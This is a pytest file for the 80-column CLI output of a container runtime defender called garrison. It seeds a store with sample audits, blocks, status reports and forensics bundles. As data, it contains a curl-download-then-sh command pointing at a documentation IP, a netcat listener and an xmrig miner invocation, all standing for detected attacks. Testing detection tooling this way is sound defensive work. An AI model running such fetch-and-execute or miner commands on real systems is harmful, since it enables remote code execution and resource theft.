"""The CLI for people at 80 columns (issue 16): each list command and ``status`` run as a user
runs them, on a real SQLite store filled through the console as a defender fills it. No line is
wider than the terminal, ids, names and states are printed whole (never cut to ``…``), long
messages wrap instead, durations read as ``30s of 1h``, and an empty list says so in words."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from rich.cells import cell_len

from garrison.alerts.health import STATUS_SOURCE
from garrison.audit.record import Audit
from garrison.console import Console, sync_models
from garrison.forensics.bundle import BundleWriter
from garrison.incidents.worker import Correlator
from garrison.model import FakeClock, LearningConfig, ModelBook
from garrison.policy import load_rules
from garrison.runtime.base import ContainerInfo, RestartPolicy
from garrison.sensors.latency import LatencyHistogram
from garrison.store.base import BlockedContainer

WIDTH = 80
WEB = "3f2a9c41d0e7" + "a" * 52
MINER = "77c0ffee1234" + "b" * 52
# The report is of another host: on this one, pid 1 would be judged by its start time, and a
# machine booted less than the report's uptime ago would call the defender gone.
OTHER_HOST = "node-7"
NGINX_IMAGE = "sha256:5888a9cdfd23" + "c" * 52
BUSYBOX_IMAGE = "sha256:bd2ee8765fd0" + "d" * 52
NGINX = ContainerInfo(WEB, "web-frontend", "garrison-test/nginx:latest", NGINX_IMAGE,
                      running=True)  # fmt: skip
BUSYBOX = ContainerInfo(MINER, "batch-worker", "garrison-test/busybox:latest", BUSYBOX_IMAGE,
                        running=True)  # fmt: skip
LONG_PATH = "/var/lib/app/cache/" + "x" * 70 + "/payload.bin"  # longer than any message column
LONG_MSG = (
    f"/usr/bin/curl launched but is not found in the runtime model; it fetched {LONG_PATH} "
    "from a host the image never talked to while it was learning, then ran it"
)
LONG_COMMAND = "curl -fsSL http://203.0.113.9:8080/stage2.sh -o /tmp/.x && sh /tmp/.x " * 3
REFUSED = "Docker refused the kill: 500 Server Error: cannot kill container: permission denied"
RULES = """
rules:
  - name: block-miners-in-production
    scope: [{images: ['garrison-test/busybox*', 'registry.example.com/batch/*']}]
    processes: {effect: block}
  - name: alert-everything-else
    scope: [{images: ['*']}]
"""


def garrison(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """The real command, its output to a pipe (not a terminal) at 80 columns."""
    env = {**os.environ, "COLUMNS": str(WIDTH), "NO_COLOR": "1"}
    env.pop("LINES", None)
    return subprocess.run(
        [sys.executable, "-m", "garrison", *map(str, args)],
        capture_output=True, text=True, timeout=120, env=env, check=False,
    )  # fmt: skip


def audit(when: float, msg: str, **fields: object) -> Audit:
    values: dict[str, object] = {
        "containerId": WEB, "containerName": NGINX.name, "imageName": NGINX.image_name,
        "imageId": NGINX_IMAGE, "type": "processes", "attackType": "unexpectedProcess",
        "effect": "alert", "processPath": "/usr/bin/curl", "command": LONG_COMMAND,
    } | fields  # fmt: skip
    return Audit(time=when, hostname=socket.gethostname(), msg=msg, **values)  # type: ignore[arg-type]


def fill_models(console: Console) -> None:
    """Two models as a defender saves them: nginx learning for 30.45 s of its hour, busybox
    active after 4 min 12 s of learning (4 min 43 s run)."""
    clock = FakeClock(time.time() - 600)
    book = ModelBook(clock=clock, config=LearningConfig(learning_period=3600))
    link = console.link(flush_interval=60, host=OTHER_HOST)
    try:
        book.container_started(BUSYBOX)
        clock.advance(252.7)
        book.for_container(BUSYBOX.id).learn_stop()
        book.container_started(NGINX)
        clock.advance(30.452066659927368)
        sync_models(book, link)
        assert link.flush(timeout=30)
    finally:
        link.close()


def fill_audits_and_blocks(console: Console, now: float) -> None:
    console.add_channel("ops-webhook", "json://127.0.0.1:9/hook?token=s3cret")
    link = console.link(flush_interval=60)
    try:
        link.report_audit(audit(now - 7, LONG_MSG))
        link.report_audit(
            audit(
                now - 3600 * 5,
                "/usr/bin/nc launched but is not found in the runtime model",
                processPath="/usr/bin/nc",
                command="nc -l 4444",
            )
        )
        link.report_audit(
            audit(
                now - 90,
                "cp wrote /tmp/x",
                type="filesystem",
                attackType="executableCreation",
                processPath="/usr/bin/cp",
                filePath="/tmp/x",
                command="cp /srv/x /tmp/x",
            )
        )
        link.report_audit(
            audit(
                now - 80,
                "/tmp/x launched but is not found in the runtime model",
                attackType="driftBinary",
                processPath="/tmp/x",
                command="/tmp/x",
            )
        )
        assert link.flush(timeout=30)
        block = audit(
            now - 30,
            "/usr/bin/xmrig launched and is explicitly denied by rule 'block-miners-in-production'",
            effect="block",
            containerId=MINER,
            containerName=BUSYBOX.name,
            imageName=BUSYBOX.image_name,
            ruleName="block-miners-in-production",
            command="xmrig -o pool:3333",
        )
        record = BlockedContainer(MINER, BUSYBOX.name, BUSYBOX.image_name,
                                  RestartPolicy("always"), None, now - 30, state="pending",
                                  reason=REFUSED)  # fmt: skip
        link.begin_block(record, block)
    finally:
        link.close()


def fill_status(console: Console, now: float) -> None:
    """A report as ``Defender.status()`` writes it, and the alert dispatcher's. Its pid is
    init's: a process of this host that started before the report's ``startedAt`` (a later
    one would hold a reused pid, and the defender would be gone)."""
    latency = LatencyHistogram()
    for nanoseconds in (80_000, 90_000, 400_000, 3_000_000):
        latency.observe(nanoseconds)

    def sensor(events: int, **more: object) -> dict[str, object]:
        counters = {"events": events, "drops": 0, "late": 1, "errors": 0, "extra": {}}
        return {"running": True, **counters, "unwatched": {}, **more}

    link = console.link(flush_interval=60)
    try:
        link.report_status({
            "hostname": OTHER_HOST, "pid": 1, "version": "0.1.0",
            "startedAt": now - 3900.5, "updatedAt": now, "state": "running",
            "stoppedAt": None, "dockerHost": "unix:///var/run/docker.sock",
            "statusInterval": 2.0, "containers": 1, "watching": [WEB],
            "models": {"active": 1, "learning": 1},
            "events": {"received": 9000, "dropped": 0, "handled": 8000, "unmatched": 3,
                       "verdicts": 412},
            "audits": 1, "rules": "a096565df153",
            "enforcement": {"blocks": 1, "kills": 0, "failures": 1, "blocked": 1, "pending": 1},
            "forensics": {"captured": 0, "failed": 0},
            "sensors": {
                "exec": sensor(37),
                "files": sensor(2, unwatched={MINER: "the runtime names no root file system "
                                              "for it (no MergedDir: not overlay2)"}),
                "processes": sensor(6724, source="bpf", reason=None),
                "network": sensor(2),
            },
            "verdictLatency": {"exec": latency.snapshot(), "file": LatencyHistogram().snapshot()},
            "tracker": {"connected": True, "events": 12, "reconnects": 0},
            "watchdog": {"supervisorPid": 1, "stallTimeout": 1.0, "restarts": 1,
                         "stalls": 1, "crashes": 0,
                         "last": {"time": now - 1800, "kind": "stall", "pid": 4242,
                                  "detail": "stalled for 1.0 s: killed"}},
            "link": link.counters(),
        })  # fmt: skip
        assert link.flush(timeout=30)
    finally:
        link.close()
    console.store.set_status({"state": "running", "updatedAt": now, "pid": os.getpid(),
        "sent": 12, "failures": 0, "storeErrors": 0, "channels": {"ops-webhook": {
            "url": "json://127.0.0.1:9/hook?token=***", "up": True, "sent": 12, "failures": 0,
            "consecutiveFailures": 0, "lastError": "", "lastSuccessAt": now - 60,
            "lastFailureAt": None}}}, source=STATUS_SOURCE)  # fmt: skip


def fill_bundle(console: Console, now: float) -> None:
    library = console.bundles()
    bundle_id = "77c0ffee1234-20261204T101434Z"
    subject = {"containerId": MINER, "containerName": BUSYBOX.name,
               "imageName": BUSYBOX.image_name, "reason": "blocked by rule "
               "'block-miners-in-production': /usr/bin/xmrig launched"}  # fmt: skip
    writer = BundleWriter(library.new_path(bundle_id), bundle_id, subject)
    writer.add_bytes("inspect.json", b"{}")
    writer.missing("filesystem.tar", "the container was removed before its export")
    library.add(dataclasses.replace(writer.finish(), created=now - 25))


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data_dir = tmp_path_factory.mktemp("cli") / "data"
    now = time.time()
    with Console.open(data_dir) as console:
        fill_models(console)
        fill_audits_and_blocks(console, now)
        Correlator(console.store).step()
        fill_status(console, now)
        fill_bundle(console, now)
        console.apply_runtime_rules(load_rules(RULES))
    return data_dir


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data_dir = tmp_path_factory.mktemp("cli-empty") / "data"
    Console.open(data_dir).close()
    return data_dir


def fits(text: str) -> str:
    """``text``, checked: no line wider than the terminal, nothing cut to an ellipsis."""
    wide = [line for line in text.splitlines() if cell_len(line) > WIDTH]
    assert not wide, "\n" + text
    assert "…" not in text, "\n" + text
    return text


def run(*args: str | Path, code: int = 0) -> str:
    done = garrison(*args)
    assert done.returncode == code, done.stdout + done.stderr
    assert done.stderr == ""
    return fits(done.stdout)


def whole(text: str, *words: str) -> None:
    """Each word on one line, whole: not folded over two lines, not cut."""
    for word in words:
        assert any(word in line for line in text.splitlines()), f"{word!r} not whole in\n{text}"


def test_models_list_fits_with_whole_ids_states_and_human_durations(filled: Path) -> None:
    text = run("models", "list", "--data-dir", filled)
    whole(text, "garrison-test/nginx:latest", "garrison-test/busybox:latest", "5888a9cdfd23",
          "bd2ee8765fd0", "learning", "active", "30s of 1h", "4m 43s")  # fmt: skip
    assert "30.45" not in text
    assert "sha256:" not in text  # short ids, as docker shows them


def test_models_show_the_hosts_that_saved_them(filled: Path) -> None:
    done = garrison("models", "show", "garrison-test/nginx", "--data-dir", filled)
    shown = json.loads(done.stdout)
    assert [h["host"] for h in shown["hosts"]] == [OTHER_HOST]
    assert shown["hosts"][0]["firstSaved"] <= shown["hosts"][0]["lastSaved"] <= time.time()
    listed = json.loads(garrison("models", "list", "--json", "--data-dir", filled).stdout)
    assert [m["hostCount"] for m in listed] == [1, 1]
    wide = garrison("models", "list", "-o", "wide", "--data-dir", filled).stdout.splitlines()
    assert wide[0].split()[-2:] == ["hosts", "created"]


def test_audits_list_fits_and_wraps_the_message_not_the_names(filled: Path) -> None:
    text = run("audits", "list", "--data-dir", filled)
    whole(text, "web-frontend", "batch-worker", "alert", "block", "5h ago")
    assert re.search(r"^\d+s ago  ", text, re.MULTILINE), text  # ages, the newest first
    assert "payload.bin" in text  # the message is there, wrapped
    assert "/usr/bin/curl launched" in text
    assert not re.search(r"\d\d:\d\d:\d\d", text)  # ages, not times of day


def test_status_is_a_readable_summary_that_fits(filled: Path) -> None:
    text = run("status", "--data-dir", filled)
    assert text.startswith(f"defender running on {OTHER_HOST} (pid 1; last report ")
    whole(text, "up 1h 5m, since ", "1 container watched, 1 audit since it started",
          "models: 1 active, 1 learning", "blocked containers: 1", "processes (bpf)  yes",
          f"container {MINER[:12]} not watched by files:", "alert channel ops-webhook",
          "verdict latency: exec 4 answered, p50 <= 100 us, p99 <= 5 ms")  # fmt: skip
    flat = " ".join(text.split())  # a long line wraps, its continuation indented
    assert "watchdog pid 1: stall timeout 1.0 s, 1 restart (1 stall, 0 crashes); last " in flat
    assert "up, 12 sent, 0 failed attempts, last sent " in flat
    assert "{" not in text  # no Python dict
    assert "1 containers" not in text
    assert "s3cret" not in text


def test_containers_blocked_fits_with_the_state_whole_and_the_reason_wrapped(
    filled: Path,
) -> None:
    text = run("containers", "blocked", "--data-dir", filled)
    whole(text, "batch-worker", MINER[:12], "pending")
    assert re.search(r"  \d+s ago  ", text), text
    flat = " ".join(text.split())
    assert REFUSED in flat  # wrapped, whole
    assert "/usr/bin/xmrig launched" in flat


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["incidents", "list"], ["web-frontend", "open", "ago"]),
        (["incidents", "show", "1"], ["T1105 Ingress Tool Transfer", "cp wrote /tmp/x"]),
        (["forensics", "list"], ["77c0ffee1234-20261204T101434Z", "batch-worker", "1 missing"]),
        (["alerts", "outbox"], ["ops-webhook", "pending", "due now"]),
        (["alerts", "channels", "list"], ["ops-webhook", "json://127.0.0.1:9/hook?token=***"]),
        (["rules", "list"], ["block-miners-in-production", "alert-everything-else", "block"]),
    ],
)
def test_the_other_lists_fit_with_whole_ids_names_and_states(
    filled: Path, args: list[str], words: list[str]
) -> None:
    whole(run(*args, "--data-dir", filled), *words)


@pytest.mark.parametrize(
    ("args", "word"),
    [
        (["models", "list"], "No models yet: a model starts when a container of an image runs."),
        (["audits", "list"], "No audits."),
        (["audits", "list", "--container", "web"], "No audits match these options."),
        (["containers", "blocked"], "No blocked containers."),
        (["incidents", "list"], "No incidents."),
        (["forensics", "list"], "No forensics bundles"),
        (["alerts", "outbox"], "The outbox is empty"),
        (["alerts", "channels", "list"], "No alert channels"),
        (["rules", "list"], "No runtime rules"),
    ],
)
def test_an_empty_list_says_so_in_words(empty: Path, args: list[str], word: str) -> None:
    text = run(*args, "--data-dir", empty)
    assert text.startswith(word), text
    assert len(text.splitlines()) == 1


def test_status_without_a_defender_says_so_and_exits_1(empty: Path) -> None:
    text = run("status", "--data-dir", empty, code=1)
    assert text.splitlines() == [
        "defender not running: no defender has reported yet (`garrison run` starts one)",
        "  models: none yet",
        "  blocked containers: none",
    ]


@pytest.mark.parametrize("command", [["audits", "list"], ["models", "list"]])
def test_output_json_is_json_and_yaml_the_same_data(filled: Path, command: list[str]) -> None:
    def out(*options: str) -> str:
        done = garrison(*command, *options, "--data-dir", filled)
        assert done.returncode == 0, done.stderr
        return done.stdout

    as_json = out("--json")
    assert out("--output", "json") == as_json
    assert yaml.safe_load(out("-o", "yaml")) == json.loads(as_json)


def test_output_wide_shows_every_column_with_each_audit_on_one_line(filled: Path) -> None:
    done = garrison("audits", "list", "-o", "wide", "--data-dir", filled)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0].split() == ["id", "time", "container", "container", "id", "image", "type",
                                "attack", "type", "effect", "rule", "host", "count", "message",
                                "command"]  # fmt: skip
    assert len(lines) == 2 + 5  # the header, its rule, one line per audit
    assert LONG_MSG in done.stdout
    assert LONG_COMMAND.strip() in done.stdout
    assert "…" not in done.stdout


def test_json_and_another_output_are_refused_in_one_line(filled: Path) -> None:
    done = garrison("models", "list", "--json", "-o", "yaml", "--data-dir", filled)
    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        "garrison: --json is --output json: give --json or --output yaml, not both"
    ]
